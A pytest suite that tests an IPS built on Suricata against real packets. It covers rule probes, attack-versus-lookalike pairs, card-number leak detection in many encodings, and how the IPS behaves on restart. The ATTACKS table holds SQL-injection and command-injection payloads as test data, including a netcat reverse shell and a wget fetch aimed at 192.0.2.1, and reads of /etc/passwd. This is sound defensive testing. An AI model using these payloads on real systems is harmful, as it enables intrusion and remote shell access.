"""The IPS with real Suricata and real packets: each rule's probe is dropped and logged and its near miss passes, leaks are found in every
disguise that is promised, and whatever breaks, nothing passes unseen."""

from __future__ import annotations

import contextlib
import gzip
import http.server
import shutil
import smtplib
import socket
import ssl
import struct
import subprocess
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path
from urllib.parse import quote

import pytest
from tests.netns.ips_lab import OUTSIDE4, OUTSIDE6, IpsLab, Machine, Seen, receive
from tests.netns.ips_root import find_ips_root

from tests.design_builder import build_design, with_flows
from tests.netns.test_guest import FLAGS, SOURCES
from vcloud.compile.ips.files import FOLDER, ips_digest, ips_files
from vcloud.compile.ips.rules import CANARY, NOT_VAPP, SHIPPED, VAPP, PayloadPair, ShippedRule, http_request
from vcloud.compile.leaks.payloads import payloads_of
from vcloud.compile.leaks.rules import rule_sids
from vcloud.design.model import Design, Detector
from vcloud.design.origin import Product
from vcloud.values import Action, Mode, Protocol

FLOWS = """
    checkout: internet -> web tcp/80=8080
    store: api -> db tcp/5432
    acquirer: api -> internet tcp/443 udp/53 icmp
    parcels: api -> internet tcp/80
"""
GOLDEN = Path(__file__).parents[1] / "golden/artifacts"
CARD, NO_CARD = "4111111111111111", "4111111111111112"
PUBLISHED = (
    *(
        "4012888888881881",
        "4222222222222",
        "5555555555554444",
        "5105105105105100",
        "2223003122003222",
        "378282246310005",
        "371449635398431",
    ),
    *(
        "6011111111111117",
        "6011000990139424",
        "30569309025904",
        "38520000023237",
        "3530111333300000",
        "3566002020360505",
        "6200000000000005",
    ),
    *("3782-822463-10005", "3056 930902 5904"),
)
HARMLESS = (
    *("550e8400-e29b-41d4-a716-446655440000", "0.4111111111111111", "41111111111111111111", "a4111111111111111f", "1732406400123"),
    *("4111   1111   1111   1111", "41111\t111111\t11111", "4111\t1111\t1111\t1112", "4111--1111  1111- 1112"),
    *("2026-11-24 00:33:12 4111", "+49 4111 111", "9999999999999999", "411111111111111", "4111 1111 1111 1112"),
)
HOSTILE = (r"a/b\/c", 'say "no"', "x;y", r"tail\\", r"[/\";]{3}", r"\Aabc", r"(?P<pkt_x>id)=\d+", "drop#$HOME_NET", "k|6b|k")
HOSTILE_TEXTS = ("a/b/c", 'say "no"', "x;y", "tail\\", '/";', "abc", "id=7", "drop#", "|6b|")


def _detector(name: str, regex: str, at_least: int, zones: tuple[str, ...], excepted: tuple[str, ...] = ()) -> Detector:
    return Detector(name, "regex" if regex else "card-number", regex, at_least, zones, excepted, Action.BLOCK, Product())


CARDS = _detector("card-number", "", 1, ("app", "cde"), ("acquirer",))
ORDERS = _detector("order-list", "SHOP-[0-9]{8}", 3, ("app", "cde"))


def with_detectors(design: Design, *detectors: Detector, mode: Mode = Mode.PREVENT) -> Design:
    return replace(design, inspection=replace(design.inspection, detectors=detectors, mode=mode))


DESIGN = with_detectors(
    build_design(zones="dmz:inspected app:inspected cde:inspected", vms={"web": "dmz", "api": "app", "db": "cde"}, flows=FLOWS),
    CARDS,
    ORDERS,
)
WEB, API, DB = ((str(vm.nics[0].address4), str(vm.nics[0].address6)) for vm in DESIGN.workloads)
NOWHERE = (OUTSIDE4, OUTSIDE6)
VERSIONS = pytest.mark.parametrize("version", [0, 1], ids=["IPv4", "IPv6"])


@pytest.fixture(scope="session")
def guest(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("guest-program") / "guest"
    subprocess.run(["musl-gcc", *FLAGS, "-o", str(path), *map(str, sorted(SOURCES.glob("*.c")))], check=True)
    return path


@pytest.fixture(scope="session")
def ips_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return find_ips_root(tmp_path_factory.mktemp("ips-image"))


@pytest.fixture(scope="module")
def shared(ips_root: Path, guest: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[IpsLab]:
    """One running IPS for all tests that only send packets."""
    with IpsLab(DESIGN, ips_root, guest, tmp_path_factory.mktemp("ips")) as lab:
        answer = lab.load(ips_files(DESIGN))
        assert (answer["action"], answer["rules_failed"], answer["digest"]) == ("start", 0, ips_digest(ips_files(DESIGN)))
        yield lab


@pytest.fixture
def own(ips_root: Path, guest: Path, tmp_path: Path) -> Iterator[IpsLab]:
    """An IPS of a test's own, not loaded yet."""
    with IpsLab(DESIGN, ips_root, guest, tmp_path) as lab:
        yield lab


def send(lab: IpsLab, probe: PayloadPair, payload: bytes, source: str, target: str) -> Seen:
    if probe.protocol is Protocol.UDP:
        return lab.udp(source, target, probe.port or 8000, payload)
    return lab.tcp(source, target, probe.port or 8000, payload, probe.request)


# --- rules that ship


@VERSIONS
@pytest.mark.parametrize("shipped", SHIPPED, ids=lambda shipped: str(shipped.rule.sid))
def test_each_rule_drops_and_logs_its_probe_and_lets_the_near_miss_pass(shared: IpsLab, shipped: ShippedRule, version: int) -> None:
    outwards = VAPP in shipped.rule.source or NOT_VAPP in shipped.rule.target
    source, target = (WEB, NOWHERE) if outwards else (NOWHERE, WEB)
    stopped, passed = (
        send(shared, shipped.payload, payload, source[version], target[version])
        for payload in (shipped.payload.stopped, shipped.payload.passed)
    )
    assert (stopped.arrived, stopped.blocked) == (False, {shipped.rule.sid})
    assert (passed.arrived, passed.logged) == (True, set())


@VERSIONS
def test_the_canary_is_seen_between_zones_too_where_packets_cross_the_ips_twice(shared: IpsLab, version: int) -> None:
    stopped, passed = (
        send(shared, CANARY.payload, payload, WEB[version], DB[version]) for payload in (CANARY.payload.stopped, CANARY.payload.passed)
    )
    assert (stopped.arrived, stopped.blocked) == (False, {CANARY.rule.sid})
    assert (passed.arrived, passed.logged) == (True, set())


# --- attacks beyond the probes, each with what is much like it


def form(text: str) -> bytes:
    return http_request("/", "Content-Type: application/x-www-form-urlencoded\r\n", text.encode(), "POST")


def fields(*values: str) -> bytes:
    """What `curl -F` sends."""
    parts = "".join(f'--b\r\nContent-Disposition: form-data; name="f"\r\n\r\n{value}\r\n' for value in values)
    return http_request("/", "Content-Type: multipart/form-data; boundary=b\r\n", f"{parts}--b--\r\n".encode(), "POST")


def json_body(text: str) -> bytes:
    return http_request("/", "Content-Type: application/json\r\n", text.encode(), "POST")


def search(value: str) -> bytes:
    return http_request(f"/?q={quote(value, safe='')}")


UNION, ALWAYS_TRUE, SQL_BODY, COMMAND, COMMAND_BODY = 1500001, 1500002, 1500004, 1500020, 1500021
ATTACKS = {
    "union right after a quote": (UNION, search("-1'UNION SELECT 1"), search("union select committee")),
    "union after a quote, columns": (UNION, search("x')union/**/all select name from users"), search('"union select committee"')),
    "union without spaces": (UNION, search("1 union(select 1)"), search("1 union (selected works)")),
    "or between quotes": (ALWAYS_TRUE, search("1'or'1'='1"), search("rock'n'roll or pop")),
    "or between quotes, not encoded": (ALWAYS_TRUE, http_request("/?id=1'or'1'='1"), http_request("/?id=1'or'1'&b='1")),
    "bars between quotes": (ALWAYS_TRUE, search("1'||'1'='1"), search("1'||'1'='2")),
    "comments for spaces": (ALWAYS_TRUE, search("1'/**/or/**/1=1--"), search("1'/**/or/**/one=1")),
    "number": (ALWAYS_TRUE, http_request("/?id=1%20or%201=1"), search("1 or 2")),
    "number, in brackets": (ALWAYS_TRUE, search("-1) or (7=7"), search("2 or 3=31")),
    "number, in the path": (ALWAYS_TRUE, http_request("/item/5+OR+1=1"), http_request("/item/5+OR+1=12")),
    "word that is true": (ALWAYS_TRUE, search("' or true--"), search("O'Neill or O'Hara or true--crime")),
    "nothing is nothing": (ALWAYS_TRUE, search("' or ''='"), search("' or '='")),
    "quotes in JSON": (SQL_BODY, json_body(r'{"user":"a\" or \"1\"=\"1"}'), json_body(r'{"user":"a\" or \"1\"","b":"1=1"}')),
    "number in JSON": (SQL_BODY, json_body('{"id":"1 or 1=1"}'), json_body('{"id":"1 or 2", "or":"1=1"}')),
    "form": (SQL_BODY, form("user=a'or'1'='1&x=y"), form("user=O'Neill or O'Hara&x=1")),
    "dollar for a space": (COMMAND, http_request("/?h=a|cat$IFS/etc/hosts"), http_request("/?h=a|cat$IF/etc/hosts")),
    "line": (COMMAND, http_request("/?h=a%0Aid%0A"), http_request("/?h=a%0AID%0A")),
    "netcat": (COMMAND, search("a|nc 192.0.2.1 4444"), search("Raleigh;nc 27601")),
    "cat": (COMMAND_BODY, form("host=a;cat /etc/passwd"), form("host=a; cat and /dog")),
    "cat, dollar for a space": (COMMAND_BODY, form("host=a|cat${IFS}/etc/hosts"), form("host=a|cat${IF}/etc/hosts")),
    "replaced": (COMMAND_BODY, form("host=$(id)&x=y"), form("host=$(idle)&x=y")),
    "in backticks": (COMMAND_BODY, form("host=a`id`&x=y"), form("text=the column `id` is the key")),
    "value in backticks": (COMMAND_BODY, json_body('{"host":"`whoami`"}'), json_body('{"text":"`whoami` prints a name"}')),
    "netcat in a body": (COMMAND_BODY, form("host=a | nc -e /bin/sh 192.0.2.1 4444"), form("address=Raleigh | NC 27601")),
    "wget": (COMMAND_BODY, form("host=a %26%26 wget http://192.0.2.1/x"), form("host=a %26%26 wget it. Then")),
    "field": (COMMAND_BODY, fields("a;id"), fields("name;id;price\r\nlamp;1;2")),
    "between semicolons": (COMMAND_BODY, form("host=a;id;&x=y"), form("csv=name;id;price")),
    "between bars": (COMMAND_BODY, form("host=|id|&x=y"), form("table=| name | id | price |")),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_stopped_by_its_rule_and_what_is_much_like_it_passes(shared: IpsLab, name: str) -> None:
    sid, attack, innocent = ATTACKS[name]
    stopped = shared.tcp(OUTSIDE4, WEB[0], 8000, attack)
    assert (stopped.arrived, stopped.blocked) == (False, {sid})
    assert shared.tcp(OUTSIDE4, WEB[0], 8000, innocent) == Seen(arrived=True, alerts=())


# --- ordinary traffic


ORDINARY = {
    "form": http_request("/login?next=%2Fcart%3Fa%3D1%26b%3D2", "", b"user=o'hara&comment=select+the+best+union+or+not;+1=1", "POST"),
    "search": http_request("/search?q=union+of+select+committees+or+%27drop+tables%27&sort=price;desc"),
    "json": http_request(
        "/api", "Content-Type: application/json\r\n", b'{"q": "cat /dev/null; ls", "n": [1.4111111111111111, 2], "or": "1=1"}', "POST"
    ),
    "upload": http_request(
        "/up",
        "Content-Type: multipart/form-data; boundary=b\r\n",
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="my.photo.png"\r\n\r\n' + bytes(range(256)) * 40 + b"\r\n--b--\r\n",
        "POST",
    ),
    "fields": fields("ID", "id", "Jo Doe\r\nRaleigh\r\nNC 27601", "Read on.\r\nMore ...", "id\r\n1\r\n2"),
    "field of one line": fields("ID"),
    "address": fields("Jo Doe\nRaleigh\nNC 27601"),
    "table": http_request("/", "Content-Type: text/csv\r\n", b"id\r\n1\r\n2\r\n", "POST"),
    "table with columns": http_request("/", "Content-Type: text/csv\r\n", b"name;id\r\nlamp;1\r\n", "POST"),
    "notes": form("note=try%20this:%0Als%0A...%0AFetch%20www.example.com%0Aid%0AMore%20.%0A"),
    "sentences": form("note=Sit;+fetch+it.+Then+stay;+more+...+see+the+union;+select+1=1"),
    "pop": search("rock'n'roll or pop, 1 or 2, 'union select committee' of O'Neill or O'Hara"),
    "browser": http_request(
        "/a/../b/./c.html?x=%3Cb%3E", "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nCookie: a=b; c=d\r\nAccept: */*\r\n"
    ),
    "websocket": http_request("/ws", "Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"),
    "postgres": struct.pack("!II", 34, 196608)
    + b"user\0shop\0database\0shop\0\0"
    + b"Q\0\0\0\x2dSELECT * FROM orders WHERE id = 1 OR 1=1\0",
    "ssh": b"SSH-2.0-OpenSSH_9.2\r\n" + bytes(range(256)) * 4,
    "redis": b"*3\r\n$3\r\nSET\r\n$1\r\na\r\n$17\r\n41111111111111112\r\n",
    "binary": bytes(range(256)) * 4000,
    "5 MB": b"lorem ipsum dolor sit amet, consectetur\n" * 130_000,
    "digits": b"".join(b"%d;" % (number * 7919 % 1_000_000) for number in range(100_000)),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_traffic_passes_and_nothing_is_logged(shared: IpsLab, name: str) -> None:
    """From outside, and out of the zones that the detectors watch."""
    for source, target in ((OUTSIDE4, WEB[0]), (API[0], OUTSIDE4), (WEB[1], API[1])):
        assert shared.tcp(source, target, 8000, ORDINARY[name]) == Seen(arrived=True, alerts=())


def test_a_download_of_5_mb_passes(shared: IpsLab) -> None:
    body = ORDINARY["5 MB"]
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    assert shared.tcp(OUTSIDE4, API[0], 80, answer, request=http_request()) == Seen(arrived=True, alerts=())


def test_curl_and_a_web_server_speak_through_it(shared: IpsLab) -> None:
    with http_server(shared.machine(WEB[0]), WEB[0]) as port:
        done = shared.firewall.run(
            "curl", "-sS", "--max-time", "10", "--interface", OUTSIDE4, "-d", "name=Jo&card=none", f"http://{WEB[0]}:{port}/"
        )
        assert done.stdout == b"got 17"


@pytest.mark.parametrize("size", [0, 3000], ids=["plain", "with a hello of several segments"])
def test_real_tls_passes_on_port_443_outwards(shared: IpsLab, tmp_path: Path, size: int) -> None:
    """A client hello longer than a segment must not be taken for something else than TLS."""
    subprocess.run(
        [
            *["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "1", "-subj", "/CN=x"],
            "-keyout",
            tmp_path / "key",
            "-out",
            tmp_path / "crt",
        ],
        check=True,
        capture_output=True,
    )
    server_side, client_side = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER), ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    server_side.load_cert_chain(tmp_path / "crt", tmp_path / "key")
    client_side.check_hostname, client_side.verify_mode = False, ssl.CERT_NONE
    if size:
        client_side.set_alpn_protocols([f"{number:0>200}" for number in range(size // 200)])
    with shared.connection(API[0], OUTSIDE4, 443) as (client, server):
        threading.Thread(target=lambda: server_side.wrap_socket(server, server_side=True).sendall(CARD.encode()), daemon=True).start()
        assert receive(client_side.wrap_socket(client), 16) == CARD.encode()


def test_packets_of_full_size_pass(shared: IpsLab) -> None:
    assert shared.udp(OUTSIDE4, WEB[0], 9000, b"x" * 1472).arrived
    assert shared.udp(OUTSIDE6, WEB[1], 9000, b"x" * 9000).arrived, "in fragments"


# --- leaks


def chunked(body: bytes, size: int) -> bytes:
    pieces = [body[at : at + size] for at in range(0, len(body), size)]
    return b"".join(b"%x\r\n%b\r\n" % (len(piece), piece) for piece in pieces) + b"0\r\n\r\n"


def upload(body: bytes, headers: str = "") -> bytes:
    return http_request("/", headers, body, "POST")


def answer(body: bytes, headers: str = "") -> bytes:
    return f"HTTP/1.1 200 OK\r\n{headers}Content-Length: {len(body)}\r\n\r\n".encode() + body


def dns_query(*labels: bytes) -> bytes:
    return (
        bytes.fromhex("766301000001000000000000") + b"".join(bytes([len(label)]) + label for label in labels) + bytes.fromhex("0000010001")
    )


def http2_upload(body: bytes) -> bytes:
    """The beginning of an HTTP/2 connection without TLS: settings, a POST with plain HPACK, and the body in frames of 9 bytes."""

    def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
        return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload

    headers = bytes.fromhex("838684") + b"\x41\x01x"
    pieces = [body[at : at + 9] for at in range(0, len(body), 9)]
    data = b"".join(frame(0, 0, 1, piece) for piece in pieces) + frame(0, 1, 1, b"")
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(1, 4, 1, headers) + data


def grouped(number: str, separator: str) -> bytes:
    return separator.join(number[at : at + 4] for at in range(0, len(number), 4)).encode()


CLIENT_SENDS = {
    "raw": lambda n: b"row " + n.encode() + b"\n",
    "raw with dashes": lambda n: b"row " + grouped(n, "-") + b"\n",
    "raw with spaces": lambda n: b"row " + grouped(n, " ") + b"\n",
    "between letters": lambda n: b"\\n" + n.encode() + b"D",
    "raw with two spaces": lambda n: b"row " + grouped(n, "  ") + b"\n",
    "raw with tabs": lambda n: b"row\t" + grouped(n, "\t") + b"\n",
    "raw with spaces and dashes": lambda n: b"row " + grouped(n, " -") + b"\n",
    "form with tabs": lambda n: upload(b"card=" + grouped(n, "%09")),
    "form with two +": lambda n: upload(b"card=" + grouped(n, "++")),
    "in three segments": lambda n: [b"row " + n[:3].encode(), n[3:9].encode(), n[9:].encode() + b"\n"],
    "form": lambda n: upload(b"card=" + n.encode()),
    "form with %20": lambda n: upload(b"card=" + grouped(n, "%20")),
    "form with +": lambda n: upload(b"card=" + grouped(n, "+") + b"&cvc=123"),
    "form, every digit encoded": lambda n: upload("".join(f"%{ord(digit):x}" for digit in n).encode()),
    "chunks of 5": lambda n: (
        http_request("/", "Transfer-Encoding: chunked\r\n", method="POST") + chunked(b"card=" + n.encode() + b"&x=y", 5)
    ),
    "gzip": lambda n: upload(gzip.compress(b"abc " * 1000 + n.encode() + b" xyz" * 1000), "Content-Encoding: gzip\r\n"),
    "after 300 kB": lambda n: upload(b"x" * 300_000 + b" " + n.encode()),
    "in the middle of 5 MB": lambda n: upload(b"x" * 2_500_000 + b" " + n.encode() + b" " + b"y" * 2_500_000),
    "in the middle of 5 MB in chunks": lambda n: (
        http_request("/", "Transfer-Encoding: chunked\r\n", method="POST") + chunked(b"ab " * 800_000 + n.encode() + b" cd" * 800_000, 1000)
    ),
    "path": lambda n: http_request(f"/card/{n}"),
    "query with %20": lambda n: http_request(f"/?card={grouped(n, '%20').decode()}"),
    "header with %20": lambda n: http_request("/", f"X-Card: {grouped(n, '%20').decode()}\r\n"),
    "cookie with %20": lambda n: http_request("/", f"Cookie: card={grouped(n, '%20').decode()}\r\n"),
    "HTTP/2": lambda n: http2_upload(b"card=" + n.encode() + b"&x=y"),
}
SERVER_SENDS = {
    "raw": lambda n: b"row " + n.encode() + b"\n",
    "page": lambda n: answer(b"<p>" + n.encode() + b"</p>"),
    "gzip": lambda n: answer(gzip.compress(b"<p>" * 500 + n.encode() + b"</p>" * 500), "Content-Encoding: gzip\r\n"),
    "chunks of 7": lambda n: b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + chunked(b"<p>" * 50 + n.encode() + b"</p>", 7),
    "in the middle of 5 MB": lambda n: answer(b"ab " * 800_000 + n.encode() + b" cd" * 800_000),
    "in the middle of 5 MB of gzip": lambda n: answer(
        gzip.compress(b"ab " * 800_000 + n.encode() + b" cd" * 800_000), "Content-Encoding: gzip\r\n"
    ),
    "header with %20": lambda n: answer(b"ok", f"X-Card: {grouped(n, '%20').decode()}\r\n"),
    "cookie": lambda n: answer(b"ok", f"Set-Cookie: c={n}; Path=/\r\n"),
    "cookie with %20": lambda n: answer(b"ok", f"Set-Cookie: c={grouped(n, '%20').decode()}; Path=/\r\n"),
    "second cookie with %20": lambda n: answer(b"ok", f"Set-Cookie: a=b\r\nSet-Cookie: c={grouped(n, '%20').decode()}\r\n"),
    "page with %20": lambda n: answer(b"card=" + grouped(n, "%20")),
    "page with +": lambda n: answer(b"card=" + grouped(n, "+") + b"&x=y"),
    "gzip with %20": lambda n: answer(gzip.compress(b"<p>" * 500 + grouped(n, "%20") + b"</p>" * 500), "Content-Encoding: gzip\r\n"),
    "page with tabs": lambda n: answer(b"<p>" + grouped(n, "\t") + b"</p>"),
}
CARD_SIDS = {sid for (name, _), sid in rule_sids((CARDS, ORDERS)).items() if name == CARDS.id}


def is_stopped(seen: Seen) -> bool:
    return not seen.arrived and bool(seen.blocked) and seen.logged <= CARD_SIDS


@pytest.mark.parametrize("form", CLIENT_SENDS)
def test_a_card_number_that_a_client_sends_is_stopped_and_a_wrong_one_passes(shared: IpsLab, form: str) -> None:
    assert is_stopped(shared.tcp(API[0], OUTSIDE4, 8000, CLIENT_SENDS[form](CARD)))
    assert shared.tcp(API[0], OUTSIDE4, 8000, CLIENT_SENDS[form](NO_CARD)) == Seen(arrived=True, alerts=())


@pytest.mark.parametrize("form", SERVER_SENDS)
def test_a_card_number_in_an_answer_is_stopped_and_a_wrong_one_passes(shared: IpsLab, form: str) -> None:
    """A client outside the set fetches it: the internet, and another zone."""
    assert is_stopped(shared.tcp(OUTSIDE4, API[0], 8000, SERVER_SENDS[form](CARD), request=http_request()))
    assert is_stopped(shared.tcp(WEB[1], DB[1], 8000, SERVER_SENDS[form](CARD), request=http_request()))
    assert shared.tcp(OUTSIDE4, API[0], 8000, SERVER_SENDS[form](NO_CARD), request=http_request()) == Seen(arrived=True, alerts=())


@pytest.mark.parametrize("number", PUBLISHED)
def test_card_numbers_of_every_brand_are_found(shared: IpsLab, number: str) -> None:
    assert is_stopped(shared.tcp(DB[0], OUTSIDE4, 8000, upload(b"card=" + number.encode())))


@pytest.mark.parametrize("text", HARMLESS)
def test_digits_that_are_no_card_number_pass(shared: IpsLab, text: str) -> None:
    assert shared.tcp(DB[0], OUTSIDE4, 8000, upload(f"value={text}&x=y".encode())) == Seen(arrived=True, alerts=())


@VERSIONS
@pytest.mark.parametrize("size", [0, 1440], ids=["small", "across fragments"])
def test_datagrams_are_searched(shared: IpsLab, version: int, size: int) -> None:
    stopped, passed = (
        shared.udp(API[version], NOWHERE[version], 9000, b"z" * size + number.encode() + b"y" * size) for number in (CARD, NO_CARD)
    )
    assert is_stopped(stopped)
    assert passed == Seen(arrived=True, alerts=())


def test_names_that_are_asked_for_are_searched(shared: IpsLab) -> None:
    stopped, passed = (shared.udp(DB[0], OUTSIDE4, 53, dns_query(n[:8].encode(), n[8:].encode(), b"example")) for n in (CARD, NO_CARD))
    assert is_stopped(stopped)
    assert passed == Seen(arrived=True, alerts=())


@VERSIONS
def test_echo_requests_are_searched(shared: IpsLab, version: int) -> None:
    stopped, passed = (shared.echo(DB[version], NOWHERE[version], number.encode()) for number in (CARD, NO_CARD))
    assert is_stopped(stopped)
    assert passed == Seen(arrived=True, alerts=())


def test_attachments_of_mail_are_searched(shared: IpsLab) -> None:
    for number, passes in ((CARD, False), (NO_CARD, True)):
        mail = EmailMessage()
        mail["Subject"], mail["From"], mail["To"] = "report", "a@example", "b@example"
        mail.set_content("See the attachment.")
        mail.add_attachment(
            b"hello " * 30 + number.encode() + b" bye" * 30, maintype="application", subtype="octet-stream", filename="report.bin"
        )
        with mail_server(shared.machine(OUTSIDE4), OUTSIDE4) as (port, mails):
            with contextlib.suppress(smtplib.SMTPException, OSError):
                send_mail(shared, DB[0], port, mail.as_bytes(policy=SMTP))
            assert bool(mails) is passes


def test_an_excepted_flow_is_free_and_only_that(shared: IpsLab) -> None:
    """Same addresses on another port, and the same port from another VM, are not."""
    probe, query = b"row " + CARD.encode() + b"\n", dns_query(CARD.encode(), b"example")
    hello = SHIPPED[0].payload.passed
    assert shared.tcp(API[0], OUTSIDE4, 443, hello + probe) == Seen(arrived=True, alerts=())
    assert shared.tcp(API[1], OUTSIDE6, 443, hello + probe) == Seen(arrived=True, alerts=())
    assert shared.udp(API[0], OUTSIDE4, 53, query) == Seen(arrived=True, alerts=())
    assert shared.echo(API[0], OUTSIDE4, probe) == Seen(arrived=True, alerts=())
    assert is_stopped(shared.tcp(API[0], OUTSIDE4, 8443, hello + probe))
    assert is_stopped(shared.tcp(DB[0], OUTSIDE4, 443, hello + probe))
    assert is_stopped(shared.udp(DB[0], OUTSIDE4, 53, query))
    assert is_stopped(shared.tcp(OUTSIDE4, API[0], 443, hello + probe, request=hello))


def test_inside_the_set_data_is_free_and_into_it_too(shared: IpsLab) -> None:
    for version in (0, 1):
        assert shared.tcp(API[version], DB[version], 5432, upload(CARD.encode())) == Seen(arrived=True, alerts=())
        assert shared.tcp(API[version], DB[version], 5432, answer(CARD.encode()), request=http_request()) == Seen(arrived=True, alerts=())
        assert shared.tcp(WEB[version], API[version], 8000, upload(CARD.encode())) == Seen(arrived=True, alerts=())


def test_zones_that_no_detector_names_are_not_searched(shared: IpsLab) -> None:
    assert shared.tcp(WEB[0], OUTSIDE4, 80, upload(CARD.encode())) == Seen(arrived=True, alerts=())


def test_a_pattern_counts(shared: IpsLab) -> None:
    three, two = b"SHOP-12345678 SHOP-12345679\nSHOP-12345670", b"SHOP-12345678 SHOP-12345679\nSHOP-1234567x"
    sids = {sid for (name, _), sid in rule_sids((CARDS, ORDERS)).items() if name == ORDERS.id}
    stopped = shared.tcp(API[0], OUTSIDE4, 80, upload(three))
    assert not stopped.arrived
    assert stopped.blocked
    assert stopped.logged <= sids
    assert shared.tcp(API[0], OUTSIDE4, 80, upload(two)) == Seen(arrived=True, alerts=())


def test_a_pattern_with_what_urls_decode_is_found_in_an_answer(own: IpsLab) -> None:
    """In plain text that only the search of the decoded body, or only the other one, would find."""
    detectors = (_detector("plus", r"key=a\+b%41", 1, ("app",)), _detector("decoded", "word=a bA", 1, ("app",)))
    own.load(ips_files(with_detectors(DESIGN, *detectors)))
    for good, near in ((b"key=a+b%41", b"key=a+b%42"), (b"word=a+b%41", b"word=a+b%42")):
        stopped, passed = (answer(gzip.compress(text * 20), "Content-Encoding: gzip\r\n") for text in (good, near))
        assert not own.tcp(OUTSIDE4, API[0], 8000, stopped, request=http_request()).arrived
        assert own.tcp(OUTSIDE4, API[0], 8000, passed, request=http_request()) == Seen(arrived=True, alerts=())


def test_the_log_holds_no_card_number(shared: IpsLab) -> None:
    """In any form in which one was sent."""
    for form in (*CLIENT_SENDS.values(),):
        shared.tcp(DB[0], OUTSIDE4, 8000, form(CARD))
    text = "".join(file.read_text() for file in shared.path("/var/log/suricata").iterdir())
    assert '"event_type":"alert"' in text
    assert "41111111" not in "".join(character for character in text if character not in " -+%")


# --- other configurations


@pytest.mark.parametrize("at_least", [2, 4])
def test_card_numbers_are_counted_over_the_whole_connection(own: IpsLab, at_least: int) -> None:
    detector = replace(CARDS, at_least=at_least)
    own.load(ips_files(with_detectors(DESIGN, detector)))
    numbers = [number.encode() for number in ("4012888888881881", "5555555555554444", "378282246310005", CARD)][:at_least]
    apart = (b"x" * 100_000).join(b" " + number + b" " for number in numbers)
    assert not own.tcp(API[0], OUTSIDE4, 80, upload(apart)).arrived
    assert own.tcp(API[0], OUTSIDE4, 80, upload(apart.replace(numbers[-1], NO_CARD.encode()))).arrived
    assert own.tcp(API[0], OUTSIDE4, 80, upload(apart.replace(numbers[-1], numbers[0]))).arrived, "the same number twice is one"


def test_probes_of_detectors_prove_them(own: IpsLab) -> None:
    detectors = (replace(CARDS, at_least=2), ORDERS, _detector("key", "-----BEGIN [A-Z ]*PRIVATE KEY-----", 1, ("app",)))
    own.load(ips_files(with_detectors(DESIGN, *detectors)))
    for detector in detectors:
        for probe in payloads_of(detector):
            ends = (OUTSIDE4, API[0]) if probe.request else (API[0], OUTSIDE4)
            assert not send(own, probe, probe.stopped, *ends).arrived
            assert send(own, probe, probe.passed, *ends) == Seen(arrived=True, alerts=())


def test_hostile_patterns_mean_what_they_say(own: IpsLab) -> None:
    detectors = tuple(_detector(f"d{number}", regex, 1, ("app",)) for number, regex in enumerate(HOSTILE))
    assert own.load(ips_files(with_detectors(DESIGN, *detectors)))["rules_failed"] == 0
    sids = rule_sids(detectors)
    for detector, text in list(zip(detectors, HOSTILE_TEXTS, strict=True)):
        if detector.regex == "drop#$HOME_NET":  # matches nothing: `$` is an end
            assert own.tcp(API[0], OUTSIDE4, 8000, text.encode()).arrived
            continue
        assert own.tcp(API[0], OUTSIDE4, 8000, text.encode()).blocked == {sids[detector.id, "tcp"]}


def test_detect_logs_attacks_and_drops_nothing_but_leaks(own: IpsLab) -> None:
    """A detector's own action decides; an action of `alert` logs."""
    alerting = replace(ORDERS, action=Action.ALERT)
    own.load(ips_files(with_detectors(DESIGN, CARDS, alerting, mode=Mode.DETECT)))
    for shipped in SHIPPED:
        if shipped.rule.source == VAPP or shipped.payload.protocol is not Protocol.TCP:
            continue
        seen = send(own, shipped.payload, shipped.payload.stopped, OUTSIDE4, WEB[0])
        assert (seen.arrived, seen.logged, seen.blocked) == (True, {shipped.rule.sid}, set())
    assert is_stopped(own.tcp(API[0], OUTSIDE4, 80, upload(CARD.encode())))
    logged = own.tcp(API[0], OUTSIDE4, 80, upload(b"SHOP-12345678 " * 3))
    assert logged.arrived
    assert logged.logged


@pytest.mark.parametrize("folder", sorted(GOLDEN.glob("*/expected/ips/etc/vcloud/ips")), ids=lambda folder: folder.parts[-6])
def test_suricata_accepts_what_was_reviewed(own: IpsLab, folder: Path) -> None:
    shutil.copytree(folder, own.path("/etc/vcloud/ips"))
    own.path("/run/suricata").mkdir()
    done = own.chroot("suricata", "-T", "--init-errors-fatal", "-l", "/run/suricata", "-c", "/etc/vcloud/ips/suricata.yaml")
    assert done.returncode == 0, done.stderr.decode()


# --- life


def test_nothing_passes_before_it_has_rules_nor_after_it_dies(own: IpsLab) -> None:
    def pings() -> bool:
        return own.machine(WEB[0]).run("ping", "-c", "5", "-i", "0.4", "-W", "1", OUTSIDE4, check=False).returncode == 0

    assert not pings()
    assert own.report()["running"] is False
    own.load(ips_files(DESIGN))
    assert pings()
    own.chroot("sh", "-c", "kill -9 $(cat /run/suricata/suricata.pid)")
    assert not pings()
    assert own.report()["running"] is False
    assert own.chroot("/usr/lib/vcloud/ips-start").returncode == 0
    assert pings()


def test_new_rules_are_loaded_live_and_open_connections_live_on(own: IpsLab) -> None:
    own.load(ips_files(DESIGN))
    with own.connection(API[0], OUTSIDE4, 8000) as (client, server):
        client.sendall(b"before")
        assert receive(server, 6) == b"before"
        changed = ips_files(with_detectors(DESIGN, CARDS, _detector("word", "secret", 1, ("app",))))
        answer = own.load(changed)
